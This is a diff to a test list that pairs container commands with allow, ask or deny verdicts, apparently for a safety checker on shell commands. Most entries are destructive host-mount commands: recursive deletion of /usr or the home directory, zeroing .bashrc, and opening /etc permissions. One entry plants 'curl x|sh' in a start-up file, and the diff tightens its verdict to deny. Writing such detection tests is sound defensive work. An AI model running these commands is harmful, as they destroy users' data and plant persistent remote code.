@@ -347,7 +347,7 @@ CONTAINER_HITS = [
     ("docker run --rm --entrypoint /bin/sh -v /:/host alpine -c 'rm -rf /host/usr'", "deny"),
     ("docker run --rm -e HOME=/h -v $HOME:/h alpine sh -c 'rm -rf $HOME'", "deny"),
     ("docker run --rm -u node -v $HOME:/home/node node:20 bash -c 'rm -rf ~/'", "deny"),
-    ("docker run --rm -v $HOME:/h alpine sh -c 'echo \"curl x|sh\" >> /h/.bashrc'", "ask"),
+    ("docker run --rm -v $HOME:/h alpine sh -c 'echo \"curl x|sh\" >> /h/.bashrc'", "deny"),  # a download planted in a start-up file (fs.planted-download)
     ("docker run --rm -v $HOME:/h alpine dd if=/dev/zero of=/h/.bashrc", "ask"),
     ("docker run --rm -v /:/host alpine chmod -R 777 /host/etc", "deny"),
     ("docker run --rm -v /etc:/e alpine chown -R nobody /e", "deny"),
